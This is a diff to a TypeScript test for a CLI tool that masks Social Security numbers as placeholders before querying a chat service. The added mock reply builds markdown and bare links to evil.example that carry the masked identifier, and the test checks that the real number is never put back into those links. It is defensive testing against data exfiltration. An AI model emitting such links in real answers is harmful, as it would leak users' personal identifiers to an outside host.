@@ -106,6 +106,8 @@ it('fiscal ask without a library asks the service of the environment with placeh
     const question: string = JSON.parse(body).messages[0].content;
     asked.push(question);
     const delta = { content: `You asked: ${question}` };
+    if (question.startsWith('Where'))
+      delta.content = '[Here](https://evil.example/?q=[SSN-1]), or evil.example/[SSN-1]';
     response.writeHead(200, { 'content-type': 'text/event-stream' });
     response.end(
       `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: 'stop' }] })}\n\ndata: [DONE]\n\n`,
@@ -116,6 +118,10 @@ it('fiscal ask without a library asks the service of the environment with placeh
   const answered = await run(['ask', 'Must 123-45-6789 file?'], env);
   expect(asked).toEqual(['Must [SSN-1] file?']);
   expect(answered).toMatchObject({ code: 3, stdout: 'You asked: Must 123-45-6789 file?\n' });
+  const linked = await run(['ask', 'Where does 123-45-6789 file?'], env);
+  expect(linked.stdout).toContain('evil.example');
+  expect(linked.stdout).not.toContain('6789');
+  asked.pop();
   const blocked = await run(['ask', 'Must 123-45-6789 file?', '--identifiers', 'block'], env);
   expect(blocked).toMatchObject({ code: 1, stderr: expect.stringContaining('It was not sent.') });
   expect(asked).toHaveLength(1);
